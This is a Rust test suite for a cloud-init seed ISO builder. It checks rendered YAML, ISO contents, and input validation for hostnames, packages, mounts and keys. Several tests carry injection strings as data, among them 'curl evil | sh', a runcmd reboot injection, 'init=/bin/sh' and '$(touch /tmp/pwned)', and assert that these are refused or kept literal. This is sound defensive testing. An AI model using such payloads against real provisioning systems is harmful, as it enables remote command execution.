use super::*;
use std::process::Command;

fn spec() -> SeedSpec {
    SeedSpec {
        instance_id: "i-0123".into(),
        hostname: "web-1".into(),
        user: "gpuvisor".into(),
        ssh_keys: vec!["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample me@laptop".into()],
        runcmd: vec!["sh".into(), "-c".into(), "echo hello from runcmd".into()],
        startup_script: Some("#!/bin/sh\necho started > /run/started\n".into()),
        packages: vec!["htop".into()],
        mounts: vec![
            ("vol-data".into(), PathBuf::from("/data")),
            ("my.vol_2".into(), PathBuf::from("/srv/v2")),
        ],
        net: SeedNet {
            mac: "52:54:00:AB:cd:01".into(),
            address: "10.78.0.2".parse().unwrap(),
            prefix_len: 24,
            gateway: "10.78.0.1".parse().unwrap(),
            dns: vec!["10.78.0.1".parse().unwrap(), "1.1.1.1".parse().unwrap()],
        },
    }
}

/// Parses a document with PyYAML, the parser cloud-init uses, into JSON for comparison.
fn pyyaml(text: &str) -> Option<Value> {
    let out = cmd::run_with_input(
        "python3",
        [
            "-c",
            "import sys, json, yaml; print(json.dumps(yaml.safe_load(sys.stdin.read())))",
        ],
        text,
    );
    match out {
        Ok(out) => Some(serde_json::from_str(&out).unwrap()),
        Err(e) => {
            // Only a missing parser is a missing prerequisite; a parse error is a failure.
            let have = Command::new("python3")
                .args(["-c", "import yaml"])
                .status()
                .is_ok_and(|s| s.success());
            assert!(!have, "PyYAML cannot read the document: {e}\n{text}");
            crate::testfx::prerequisite_missing("python3-yaml (scripts/install-deps)");
            None
        }
    }
}

fn have(tool: &str) -> bool {
    if Command::new(tool).arg("-version").output().is_ok() {
        return true;
    }
    crate::testfx::prerequisite_missing(&format!("{tool} (genisoimage, scripts/install-deps)"));
    false
}

fn iso_file(iso: &Path, name: &str) -> String {
    cmd::run(
        "isoinfo",
        [
            "-R".as_ref(),
            "-i".as_ref(),
            iso.as_os_str(),
            "-x".as_ref(),
            format!("/{name}").as_ref() as &std::ffi::OsStr,
        ],
    )
    .unwrap()
}

#[test]
fn seed_iso_carries_the_three_documents() {
    if !have("genisoimage") || !have("isoinfo") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let iso = dir.path().join("seed.iso");
    write_seed(&spec(), &iso).unwrap();
    // Nothing else left beside it.
    let names: Vec<_> = fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names, ["seed.iso"]);
    // The seed carries keys and scripts: root only, whatever the umask.
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = fs::metadata(&iso).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "seed mode {mode:o}");
    }

    let info = cmd::run("isoinfo", ["-d".as_ref(), "-i".as_ref(), iso.as_os_str()]).unwrap();
    assert!(info.contains("Volume id: cidata"), "{info}");

    let docs = render(&spec()).unwrap();
    assert_eq!(iso_file(&iso, "meta-data"), docs.meta_data);
    assert_eq!(iso_file(&iso, "user-data"), docs.user_data);
    assert_eq!(iso_file(&iso, "network-config"), docs.network_config);
    assert!(docs.user_data.starts_with("#cloud-config\n"));

    let Some(meta) = pyyaml(&docs.meta_data) else {
        return;
    };
    assert_eq!(
        meta,
        json!({"instance-id": "i-0123", "local-hostname": "web-1"})
    );
    let user = pyyaml(&docs.user_data).unwrap();
    assert_eq!(user["hostname"], "web-1");
    assert_eq!(user["manage_etc_hosts"], true);
    assert_eq!(user["users"][0]["name"], "gpuvisor");
    assert_eq!(user["users"][0]["sudo"], "ALL=(ALL) NOPASSWD:ALL");
    assert_eq!(
        user["users"][0]["ssh_authorized_keys"],
        json!(["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample me@laptop"])
    );
    assert_eq!(user["packages"], json!(["htop"]));
    assert_eq!(
        user["mounts"],
        json!([
            [
                "/dev/disk/by-id/virtio-vol-data",
                "/data",
                "auto",
                "defaults,nofail",
                "0",
                "2"
            ],
            [
                "/dev/disk/by-id/virtio-my.vol_2",
                "/srv/v2",
                "auto",
                "defaults,nofail",
                "0",
                "2"
            ]
        ])
    );
    assert_eq!(user["write_files"][0]["path"], STARTUP_SCRIPT_PATH);
    assert_eq!(user["write_files"][0]["permissions"], "0755");
    assert_eq!(
        user["write_files"][0]["content"],
        "#!/bin/sh\necho started > /run/started\n"
    );
    assert_eq!(
        user["runcmd"],
        json!([
            [STARTUP_SCRIPT_PATH],
            ["sh", "-c", "echo hello from runcmd"]
        ])
    );
    let net = pyyaml(&docs.network_config).unwrap();
    assert_eq!(
        net,
        json!({
            "version": 2,
            "ethernets": {"eth0": {
                "match": {"macaddress": "52:54:00:ab:cd:01"},
                "set-name": "eth0",
                "dhcp4": false,
                "dhcp6": false,
                "addresses": ["10.78.0.2/24"],
                "gateway4": "10.78.0.1",
                "nameservers": {"addresses": ["10.78.0.1", "1.1.1.1"]},
            }}
        })
    );
}

#[test]
fn injection_attempts_stay_literal() {
    let mut s = spec();
    let evil_cmd =
        "x\"\n- [sh, -c, 'curl evil | sh']\nruncmd: [reboot] # \u{85}\u{2028}\u{7f}\u{1F600}'";
    s.runcmd = vec!["echo".into(), evil_cmd.into()];
    s.startup_script =
        Some("#!/bin/sh\n---\n... \n%YAML 1.1\n: : :\n\t- \"x\" \\\\ \\u0041\n".into());
    s.ssh_keys =
        vec!["ssh-ed25519 AAAA\" ] } ], \"runcmd\": [[\"reboot\"]], \"x\": [ { \"y\": \"".into()];
    let docs = render(&s).unwrap();
    // Only printable ASCII and line ends reach the YAML reader.
    for d in [&docs.meta_data, &docs.user_data, &docs.network_config] {
        assert!(
            d.bytes().all(|b| b == b'\n' || (0x20..0x7f).contains(&b)),
            "{d}"
        );
    }
    let Some(user) = pyyaml(&docs.user_data) else {
        return;
    };
    let keys: Vec<&String> = user.as_object().unwrap().keys().collect();
    assert_eq!(
        keys,
        [
            "hostname",
            "manage_etc_hosts",
            "mounts",
            "packages",
            "preserve_hostname",
            "runcmd",
            "users",
            "write_files"
        ]
    );
    assert_eq!(user["hostname"], s.hostname);
    assert_eq!(user["runcmd"][1], json!(["echo", evil_cmd]));
    assert_eq!(user["runcmd"].as_array().unwrap().len(), 2);
    assert_eq!(user["write_files"][0]["content"], s.startup_script.unwrap());
    assert_eq!(user["users"].as_array().unwrap().len(), 1);
    assert_eq!(user["users"][0]["ssh_authorized_keys"], json!(s.ssh_keys));
    let meta = pyyaml(&docs.meta_data).unwrap();
    assert_eq!(meta["local-hostname"], s.hostname);
    assert_eq!(meta.as_object().unwrap().len(), 2);
}

/// cloud-init 22.4's schema wants at least one key where `ssh_authorized_keys` is given: a VM
/// created without `--ssh-key` gets no list (an empty one made Debian's cloud-init log
/// "Invalid cloud-config provided").
#[test]
fn a_seed_without_keys_has_no_key_list() {
    let mut s = spec();
    s.ssh_keys.clear();
    let docs = render(&s).unwrap();
    assert!(
        !docs.user_data.contains("ssh_authorized_keys"),
        "{}",
        docs.user_data
    );
    let Some(user) = pyyaml(&docs.user_data) else {
        return;
    };
    assert_eq!(user["users"][0]["name"], "gpuvisor");
    assert!(user["users"][0].get("ssh_authorized_keys").is_none());
}

#[test]
fn what_cannot_be_written_safely_is_refused() {
    type Edit = Box<dyn Fn(&mut SeedSpec)>;
    let cases: Vec<(&str, Edit)> = vec![
        (
            "key newline",
            Box::new(|s| s.ssh_keys = vec!["ssh-rsa A\nssh-rsa B".into()]),
        ),
        ("hostname newline", Box::new(|s| s.hostname = "a\nb".into())),
        ("empty hostname", Box::new(|s| s.hostname = String::new())),
        (
            "hostname json",
            Box::new(|s| s.hostname = "h\": 1, \"users\": [], \"x\": \"'&*!|>%@`{}[]#".into()),
        ),
        ("hostname space", Box::new(|s| s.hostname = "a b".into())),
        (
            "hostname kernel arg",
            Box::new(|s| s.hostname = "h:eth0:off init=/bin/sh".into()),
        ),
        (
            "hostname equals",
            Box::new(|s| s.hostname = "init=x".into()),
        ),
        ("hostname dash", Box::new(|s| s.hostname = "-h".into())),
        ("hostname label", Box::new(|s| s.hostname = "a..b".into())),
        (
            "hostname long label",
            Box::new(|s| s.hostname = "a".repeat(64)),
        ),
        (
            "hostname long",
            Box::new(|s| s.hostname = ["a"; 128].join(".")),
        ),
        (
            "package option",
            Box::new(|s| s.packages = vec!["-oAPT::Get::AllowUnauthenticated=true".into()]),
        ),
        (
            "package dash",
            Box::new(|s| s.packages = vec!["--yes".into()]),
        ),
        (
            "package upper",
            Box::new(|s| s.packages = vec!["Htop".into()]),
        ),
        (
            "package empty version",
            Box::new(|s| s.packages = vec!["htop=".into()]),
        ),
        ("user", Box::new(|s| s.user = "root;x".into())),
        ("user upper", Box::new(|s| s.user = "Admin".into())),
        ("nul arg", Box::new(|s| s.runcmd = vec!["a\0b".into()])),
        (
            "nul script",
            Box::new(|s| s.startup_script = Some("\0".into())),
        ),
        (
            "package",
            Box::new(|s| s.packages = vec!["htop vim".into()]),
        ),
        (
            "serial",
            Box::new(|s| s.mounts = vec![("a/b".into(), "/data".into())]),
        ),
        (
            "serial length",
            Box::new(|s| s.mounts = vec![("a".repeat(21), "/data".into())]),
        ),
        (
            "mount space",
            Box::new(|s| s.mounts = vec![("v".into(), "/my data".into())]),
        ),
        (
            "mount relative",
            Box::new(|s| s.mounts = vec![("v".into(), "data".into())]),
        ),
        ("mac", Box::new(|s| s.net.mac = "52:54:00:ab:cd".into())),
        (
            "mac chars",
            Box::new(|s| s.net.mac = "52:54:00:ab:cd:zz".into()),
        ),
        ("prefix", Box::new(|s| s.net.prefix_len = 33)),
    ];
    for (what, f) in cases {
        let mut s = spec();
        f(&mut s);
        assert!(
            matches!(render(&s), Err(TemplateError::Invalid(_))),
            "{what} was accepted"
        );
    }
    // What is valid stays valid.
    for h in [
        "web-1",
        "a",
        "node7.example.com",
        "A1-b2",
        &["a"; 126].join("."),
    ] {
        let mut s = spec();
        s.hostname = h.to_string();
        assert!(render(&s).is_ok(), "hostname {h:?} refused");
    }
    for p in [
        "htop",
        "g++",
        "libc6:amd64",
        "vim=2:9.0.1378-2",
        "linux-image-6.1.0-9-amd64",
        "a~b",
    ] {
        let mut s = spec();
        s.packages = vec![p.to_string()];
        assert!(render(&s).is_ok(), "package {p:?} refused");
    }
    // Optional parts left out are left out of the documents.
    let mut s = spec();
    s.runcmd.clear();
    s.startup_script = None;
    s.packages.clear();
    s.mounts.clear();
    let docs = render(&s).unwrap();
    let v: Value =
        serde_json::from_str(docs.user_data.trim_start_matches("#cloud-config\n")).unwrap();
    for k in ["runcmd", "write_files", "packages", "mounts"] {
        assert!(v.get(k).is_none(), "{k}");
    }
}

#[test]
fn a_failed_build_leaves_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let mut s = spec();
    s.net.mac = "bad".into();
    assert!(write_seed(&s, &dir.path().join("seed.iso")).is_err());
    // A target directory that does not exist: genisoimage never runs, nothing is left.
    assert!(write_seed(&spec(), &dir.path().join("missing/seed.iso")).is_err());
    assert_eq!(fs::read_dir(dir.path()).unwrap().count(), 0);
}

/// The minimal test guest (scripts/vm-test-fixture) reads these documents with its own small
/// JSON reader in busybox awk and runs what it prints: the values must come out byte for byte,
/// as arguments, never as code.
#[test]
fn the_test_guests_reader_keeps_values_literal() {
    if Command::new("busybox").arg("true").output().is_err() {
        crate::testfx::prerequisite_missing("busybox (busybox-static, scripts/install-deps)");
        return;
    }
    let awk = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../scripts/vm-guest/cloud-config.awk");
    let mut s = spec();
    let evil = "a'b\"c $(touch /tmp/pwned) `id` \\n \\\\ ; | & \u{e9}\u{1F600}\ttab\nline2 '\"'\"'";
    s.hostname = "host-1.example".into();
    s.runcmd = vec!["printf".into(), "%s".into(), evil.into()];
    s.startup_script = Some(format!("#!/bin/sh\necho '{evil}'\n"));
    s.mounts = vec![
        ("vol-a".into(), PathBuf::from("/data/x'$(id)")),
        ("vol_b".into(), PathBuf::from("/srv/b")),
    ];
    let docs = render(&s).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let run = |doc: &str| -> Vec<String> {
        let f = dir.path().join("doc");
        fs::write(&f, doc).unwrap();
        let script = cmd::run(
            "busybox",
            [
                "awk".as_ref(),
                "-f".as_ref(),
                awk.as_os_str(),
                f.as_os_str(),
            ],
        )
        .unwrap();
        // Stubs print each call and its arguments NUL-separated, one call per record.
        let stubs = "for f in set_hostname do_mount write_file run_argv run_sh; do \
                     eval \"$f() { printf '%s\\036' $f; for a in \\\"\\$@\\\"; do printf '%s\\037' \\\"\\$a\\\"; done; printf '\\035'; }\"; done\n";
        let out = cmd::run_with_input("busybox", ["sh"], &format!("{stubs}{script}")).unwrap();
        out.split('\u{1d}')
            .filter(|r| !r.is_empty())
            .map(|r| r.replace('\u{1e}', " ").replace('\u{1f}', "|"))
            .collect()
    };
    assert_eq!(
        run(&docs.meta_data),
        [format!("set_hostname {}|", s.hostname)]
    );
    let script = s.startup_script.clone().unwrap();
    assert_eq!(
        run(&docs.user_data),
        [
            "do_mount /dev/disk/by-id/virtio-vol-a|/data/x'$(id)|".to_string(),
            "do_mount /dev/disk/by-id/virtio-vol_b|/srv/b|".to_string(),
            format!("write_file {STARTUP_SCRIPT_PATH}|0755|{script}|"),
            format!("run_argv {STARTUP_SCRIPT_PATH}|"),
            format!("run_argv printf|%s|{evil}|"),
        ]
    );
}
